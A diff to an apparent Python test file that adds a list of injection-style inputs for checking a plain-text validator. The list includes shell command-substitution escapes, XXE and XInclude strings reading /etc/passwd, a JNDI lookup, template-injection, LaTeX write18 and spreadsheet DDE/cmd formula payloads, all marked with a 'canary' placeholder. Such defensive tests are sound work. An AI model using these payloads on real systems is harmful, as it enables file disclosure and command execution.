@@ -33,6 +33,17 @@ PLAIN = [
     "x" * 199, "x" * 200, "x" * 201, "x" * 255, "ü" * 120, "%s" * 60,
 ]
 
+# Escapes that become a command only when somebody decodes them once more, and words of formats that came later.
+LATER = [
+    "\\140canary\\140", "\\x60canary\\x60", "\\u0060canary\\u0060", "\\44(canary)", "%60canary%60", "&#96;canary&#96;", "=\\140canary\\140", "x\\012system 'canary'\\012", "x\\nsystem\\x20'canary'",
+    "$'canary'", "$\"canary\"", "${IFS}canary", "$IFS$9canary", "<(canary)", ">(canary)", "$((canary))", "$[canary]", "{canary,x}", "~+/canary", "!!", "!-1", "^x^canary", "a\\", "'\\''canary'\\''",
+    "x';system('canary');y='", "@canary", "x = system('canary')", "set output '|canary'", "load '<canary'", "plot '<canary'", "eval(\"canary\")", "print `canary`", "{/:Bold x}", "x_{canary}^{2}", "&{canary}", "~a{.8-}", "@^{x}",
+    "{=uq; canary=}", "{= qx(canary) =}", "{+/}", "{3..}", "::: canary", ":::: canary", "--sshlogin canary", "--rpl {1} system('canary')",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<?xml-stylesheet href='http://canary.invalid/'?>", "]]>", "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></x>",
+    "\"/><failure message='canary'/>", "{\"__proto__\": {\"canary\": 1}}", "\",\"canary\":1,\"", "${jndi:ldap://canary.invalid/x}", "{{7*7}}", "#{canary}", "%{canary}", "<%= canary %>", "\\input{canary}", "\\write18{canary}",
+    "=DDE(\"canary\";\"x\";\"y\")", "|@canary", "+cmd|'/C canary'!A0", "a\u00a0b", "\u3000a", "a\u00adb", "\u0301a", "ﬁ", "ＣＡＮＡＲＹ", "a" + "\u0301" * 60,
+]
+
 # Texts that no terminal shows as they are: refused everywhere.
 DARK = [
     "a\nb", "\n", "a\r\nb", "a\tb", "\x1b]0;canary\x07", "\x1b[31mred", "\x1b[2J", "\x1bP$q\x1b\\", "\x9b31m".encode("latin1").decode("latin1"), "a\x7fb", "a\x08\x08\x08b",
@@ -41,7 +52,7 @@ DARK = [
 ]
 
 WRAPPED = [w % c for w in WRAPPERS for c in COMMANDS[:1 + WRAPPERS.index(w) % 3]]
-TEXTS = list(dict.fromkeys(WRAPPED + PLAIN + DARK))
+TEXTS = list(dict.fromkeys(WRAPPED + PLAIN + LATER + DARK))
 
 
 def is_plain(text):
